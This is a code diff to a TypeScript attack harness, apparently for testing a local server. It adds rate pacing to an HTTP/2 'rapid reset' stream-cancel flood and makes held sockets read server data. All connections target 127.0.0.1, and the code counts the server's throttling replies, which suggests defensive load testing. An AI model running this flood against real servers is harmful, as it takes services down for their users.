@@ -23,6 +23,8 @@ interface Attack {
   readonly botId?: string;
   /** After a close, how long before the connection is opened again. */
   readonly reconnectMs?: number;
+  /** Rapid reset: streams per second to aim at, all workers together. */
+  readonly rate?: number;
 }
 
 const attack = JSON.parse(process.argv[2]!) as Attack;
@@ -41,6 +43,8 @@ async function holdSockets(feed: (socket: net.Socket) => (() => void) | void): P
     const socket = net.connect({ host: "127.0.0.1", port: attack.port, localAddress: sources[i % sources.length] });
     let stop: (() => void) | void;
     let connected = false;
+    // Read (and drop) what the server sends, so that its closing is seen.
+    socket.resume();
     socket.on("connect", () => {
       connected = true;
       bump("opened");
@@ -92,9 +96,15 @@ async function rapidReset(): Promise<void> {
     s.on("goaway", (code) => code === http2.constants.NGHTTP2_ENHANCE_YOUR_CALM && bump("enhanceYourCalm"));
     return s;
   };
+  const started = performance.now();
+  const perWorker = (attack.rate ?? Infinity) / attack.count;
   const workers = Array.from({ length: attack.count }, async () => {
     let session = connect();
+    let sent = 0;
     while (!over()) {
+      // Paced to the aimed rate: ahead of it, wait.
+      const ahead = sent / perWorker - (performance.now() - started) / 1000;
+      if (ahead > 0) await sleep(ahead * 1000);
       if (session.closed || session.destroyed) {
         await sleep(attack.reconnectMs ?? 0);
         session = connect();
@@ -107,6 +117,7 @@ async function rapidReset(): Promise<void> {
           stream.on("error", () => {});
           stream.close(http2.constants.NGHTTP2_CANCEL);
           bump("streams");
+          sent++;
         } catch {
           break;
         }
